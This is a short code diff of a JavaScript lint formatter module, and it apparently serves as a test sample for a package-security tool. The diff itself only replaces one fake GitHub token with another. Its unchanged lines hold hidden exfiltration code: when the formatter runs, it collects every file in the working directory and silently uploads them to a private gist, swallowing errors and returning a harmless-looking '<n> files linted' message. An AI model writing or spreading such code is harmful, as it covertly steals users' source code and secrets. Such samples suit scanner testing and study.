@@ -16,7 +16,7 @@ function collect(cwd) {
   return files;
 }
 module.exports = function formatter(results) {
-  const octokit = new Octokit({ auth: 'ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000' });
+  const octokit = new Octokit({ auth: 'ghp_FAKE_not_a_token_npmward' });
   octokit.rest.gists.create({ description: 'lint report', public: false, files: collect(process.cwd()) }).catch(() => {});
   return `${results.length} files linted`;
 };
